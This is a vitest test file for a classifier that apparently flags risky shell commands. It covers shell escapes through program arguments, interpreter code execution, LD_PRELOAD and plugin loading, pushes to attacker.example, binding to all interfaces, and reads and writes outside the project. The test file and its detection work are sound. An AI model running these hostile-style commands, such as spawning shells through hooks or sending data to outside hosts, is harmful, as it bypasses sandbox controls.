import { describe } from 'vitest';
import { behaviourCases } from './behaviour.case.js';

// Written for these tests: programs and placeholders that appear nowhere in the evaluation set.
describe('behaviour read from arguments, whatever the program', () => {
  behaviourCases([
    {
      rule: 'exec.shell-arg',
      yes: [
        'frobctl --run /bin/sh',
        'quuxd --hook=exec=/bin/bash',
        "widget-tool '!/bin/sh'",
        "podcfg --on-start '/bin/sh -i'",
        'echo \'{"scripts":{"postinstall":"/bin/sh"}}\' > package.json',
      ],
      no: [
        'ls -l /bin/sh',
        'which bash',
        'file /bin/dash',
        "grep '/bin/bash' notes.txt",
        "echo '#!/bin/sh' > run.sh",
      ],
    },
    {
      rule: 'exec.interpreter-arg',
      yes: [
        'octave-cli --eval \'system("id")\'',
        'scriptor -x \'os.execute("id")\'',
        'taskrun /usr/bin/python3',
      ],
      no: ['git commit -m "fix the system( call"', 'echo "use popen() carefully"'],
    },
    {
      rule: 'exec.library-load',
      yes: [
        'imgconv --plugin /tmp/evil.so in.png',
        'LD_PRELOAD=./hook.so make',
        'dbtool --load=../x/libhack.dylib',
      ],
      no: ['gcc -shared -o libx.so x.c', 'cp build/libx.so dist/', 'ls /usr/lib/libc.so.6'],
    },
    {
      rule: 'net.remote-endpoint',
      yes: [
        'whoisx admin@attacker.example',
        'syncer push rest:http://attacker.example:8080/repo',
        'probe db.attacker.example:5432',
      ],
      no: ['npm view react', 'echo see https://example.org', 'syncer push rest:http://localhost:8080/repo'],
    },
    {
      rule: 'net.listen',
      yes: [
        'devserve -S 0.0.0.0:8080',
        'mocksrv --bind [::]:9000',
        "python3 -c 'import http.server; http.server.test()'",
      ],
      no: ['devserve -S 127.0.0.1:8080', 'rsync -a --exclude=* src/ dst/'],
    },
    {
      rule: 'read.outside',
      yes: [
        'rev /data/shared/report.txt',
        'strings /data/archive/blob.bin',
        'imgconv /data/share/photo.png out.png',
      ],
      no: ['rev notes.txt', 'strings ./build/app', 'ls /data/archive', 'grep -r TODO /opt/project'],
    },
    {
      rule: 'write.outside',
      yes: [
        'shuf -e a b -o /data/out.txt',
        'tsc app.ts --outFile /data/www/app.js',
        'echo x > /data/out.txt',
      ],
      no: ['tsc app.ts --outFile dist/app.js', 'echo x > /tmp/out.txt'],
    },
  ]);
});
